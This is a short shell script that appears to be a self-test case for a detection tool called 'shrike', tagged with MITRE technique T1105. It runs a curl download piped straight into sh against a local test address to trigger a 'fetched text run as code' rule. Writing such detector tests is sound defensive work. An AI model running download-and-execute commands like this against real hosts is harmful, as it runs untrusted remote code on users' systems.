#!/bin/sh
# rule: Fetched or decoded text run as code
# technique: T1105
# case: fetched by a downloader and run at once
# needs: curl

cd "${ATTACK_DIRECTORY:?shrike selftest runs it}" || exit
sh -c 'curl -s http://127.0.0.1:9/shrike-selftest | sh; true'
